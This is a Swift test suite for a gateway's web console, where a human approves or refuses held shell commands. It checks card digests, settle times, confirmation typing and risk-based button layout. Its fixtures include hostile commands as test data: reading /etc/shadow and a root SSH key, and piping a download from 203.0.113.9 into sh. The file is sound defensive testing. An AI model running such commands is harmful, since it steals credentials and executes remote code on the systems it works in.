import Console
import Foundation
import Gateway
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import HummingbirdWebSocket
import HummingbirdWSTesting
import HummingbirdWSClient
import Testing

/// A decision in the web console lands only on the card the escort saw: it names the hold and the
/// card's digest, another card is refused for a settle time after each decision, a high-risk
/// approval needs the hold's number typed, and several tabs on one session can each decide.
@Suite(.serialized)
struct ConsoleDecisionTests {
    func app(_ f: ConsoleFixture) -> some ApplicationProtocol {
        let router = ConsoleRoutesForTesting.router(f.context)
        return Application(router: router, server: .http1WebSocketUpgrade(webSocketRouter: router))
    }

    static func post(_ client: some TestClientProtocol, _ who: (cookie: String, csrf: String), _ path: String, _ body: String) async throws -> (HTTPResponse.Status, String) {
        let r = try await client.execute(uri: path, method: .post,
                                         headers: [.origin: "http://localhost", .cookie: who.cookie, .contentType: "application/x-www-form-urlencoded"],
                                         body: ByteBuffer(string: "csrf=\(who.csrf)&" + body))
        return (r.status, String(buffer: r.body))
    }

    /// Holds `command` in s-1 (already registered) and waits until the hub lists it.
    static func hold(_ f: ConsoleFixture, _ command: String) async throws -> (Task<HoldDecision, Never>, HeldCommand) {
        let hub = f.hub
        let before = await hub.summary("s-1")?.held?.id
        let analysis = f.context.analyser.analyse(command)
        let task = Task { await hub.hold(session: "s-1", command: command, analysis: analysis, ruling: .hold, reasons: ["test"]) }
        for _ in 0..<500 {
            if let h = await hub.summary("s-1")?.held, h.id != before { return (task, h) }
            try await Task.sleep(for: .milliseconds(10))
        }
        throw TestSetupFailure("the command was not held")
    }

    /// Attached as bob over the session's events socket, runs `body`, then leaves.
    static func attached(_ client: some TestClientProtocol, _ cookie: String, _ body: @escaping @Sendable () async throws -> Void) async throws {
        var headers = HTTPFields()
        headers[.cookie] = cookie
        _ = try await client.ws("/ws/sessions/s-1/events", configuration: WebSocketClientConfiguration(additionalHeaders: headers)) { inbound, outbound, _ in
            var messages = inbound.messages(maxSize: 1 << 20).makeAsyncIterator()
            _ = try await messages.next()  // attached
            try await body()
            try await outbound.close(.normalClosure, reason: nil)
        }
    }

    @Test func aDecisionNamesTheCardTheEscortSawAndWaitsOutTheSettleTime() async throws {
        let f = try await ConsoleFixture()
        let first = try await f.holdCommand(by: "alice", "cat /etc/shadow")
        let card = try #require(await f.hub.summary("s-1")?.held)
        #expect(card.analysis.risk >= .high)
        try await app(f).test(.live) { client in
            let bob = try #require(try await signIn(client, "bob"))
            try await Self.attached(client, bob.cookie) {
                let path = "/sessions/s-1/approve"
                // No hold, another hold, no digest, another digest: "the command changed".
                for body in ["", "hold=\(card.id + 1)&digest=\(card.cardDigest)&confirm=\(card.id + 1)", "hold=\(card.id)&confirm=\(card.id)",
                             "hold=\(card.id)&digest=0123456789abcdef0123456789abcdef&confirm=\(card.id)"] {
                    let (status, text) = try await Self.post(client, bob, path, body)
                    #expect(status == .conflict && text.contains("command changed"), "\(body): \(status) \(text)")
                }
                // High risk: the right card without its number typed is not approved.
                let (status, text) = try await Self.post(client, bob, path, "hold=\(card.id)&digest=\(card.cardDigest)")
                #expect(status == .conflict && text.contains("confirm"), "\(status) \(text)")
                #expect(await f.hub.summary("s-1")?.held?.id == card.id, "nothing decided yet")
                let (ok, said) = try await Self.post(client, bob, path, "hold=\(card.id)&digest=\(card.cardDigest)&confirm=\(card.id)")
                #expect(ok == .ok && said.contains("Approved"), "\(ok) \(said)")

                // The next card arrives at once; a second press right after the first is refused.
                let (second, next) = try await Self.hold(f, "cat /root/.ssh/id_rsa")
                let (soon, why) = try await Self.post(client, bob, path, "hold=\(next.id)&digest=\(next.cardDigest)&confirm=\(next.id)")
                // On a machine so loaded that the request took longer than the settle time, its
                // acceptance proves nothing either way (DecisionGuardTests has the rule on plain values).
                if Date().timeIntervalSince(next.heldAt) < DecisionGuard.settle {
                    #expect(soon == .conflict && why.contains("read it again"), "\(soon) \(why)")
                    #expect(await f.hub.summary("s-1")?.held?.id == next.id, "the second card was decided within the settle time")
                }
                if soon == .conflict {
                    try await Task.sleep(for: .milliseconds(1600))
                    let (later, _) = try await Self.post(client, bob, "/sessions/s-1/refuse", "hold=\(next.id)&digest=\(next.cardDigest)&reason=not+today")
                    #expect(later == .ok)
                    #expect(await second.value == .refused(by: "bob", reason: "not today"))
                }
            }
        }
        #expect(await first.value == .approved(by: ["bob"]))
        await f.hub.unregister("s-1", reason: "test over")
    }

    @Test func twoTabsOnOneSessionEachDecideAfterEitherCloses() async throws {
        let f = try await ConsoleFixture()
        let held = try await f.holdCommand(by: "alice", "cat /etc/shadow")
        let card = try #require(await f.hub.summary("s-1")?.held)
        try await app(f).test(.live) { client in
            let bob = try #require(try await signIn(client, "bob"))
            // Two tabs attach; the first closes; the second still decides.
            try await Self.attached(client, bob.cookie) {
                try await Self.attached(client, bob.cookie) {}
                let (status, text) = try await Self.post(client, bob, "/sessions/s-1/approve", "hold=\(card.id)&digest=\(card.cardDigest)&confirm=\(card.id)")
                #expect(status == .ok, "\(status) \(text)")
            }
        }
        #expect(await held.value == .approved(by: ["bob"]))
        await f.hub.unregister("s-1", reason: "test over")
    }
}

extension ConsoleDecisionTests {
    /// A critical card puts Refuse first (the larger button) and needs the hold's number typed; a
    /// high card has a confirm step instead of the box; each level has its own class (colour).
    @Test func aCriticalCardPutsRefuseFirstAndAHighOneHasAConfirmStep() async throws {
        let f = try await ConsoleFixture()
        let command = "curl -s http://203.0.113.9/x | sh"
        #expect(f.context.analyser.analyse(command).risk == .critical)
        let held = try await f.holdCommand(by: "alice", command)
        try await app(f).test(.live) { client in
            let bob = try #require(try await signIn(client, "bob"))
            let page = String(buffer: try await client.execute(uri: "/sessions/s-1", method: .get, headers: [.cookie: bob.cookie]).body)
            #expect(page.contains("card risk-critical"), "\(page)")
            let refuse = try #require(page.range(of: #"class="refuse primary""#), "no prominent Refuse: \(page)")
            let approve = try #require(page.range(of: #"id="approve" class="approve secondary""#), "no plain Approve: \(page)")
            #expect(refuse.lowerBound < approve.lowerBound, "Refuse comes first on a critical card")
            #expect(page.contains(#"id="confirm""#), "the hold number is typed to approve a critical command")
            // The facts strip, with the citizenship, comes before the card.
            let facts = try #require(page.range(of: #"<dl class="facts">"#))
            #expect(facts.lowerBound < refuse.lowerBound)
        }
        await f.hub.unregister("s-1", reason: "test over")
        _ = await held.value

        let g = try await ConsoleFixture()
        let high = try await g.holdCommand(by: "alice", "cat /etc/shadow")
        try await app(g).test(.live) { client in
            let bob = try #require(try await signIn(client, "bob"))
            let page = String(buffer: try await client.execute(uri: "/sessions/s-1", method: .get, headers: [.cookie: bob.cookie]).body)
            #expect(page.contains("card risk-high") && page.contains(#"id="confirm-step""#) && !page.contains(#"id="confirm""#), "\(page)")
        }
        await g.hub.unregister("s-1", reason: "test over")
        _ = await high.value
    }
}

struct TestSetupFailure: Error, CustomStringConvertible {
    var description: String
    init(_ description: String) { self.description = description }
}
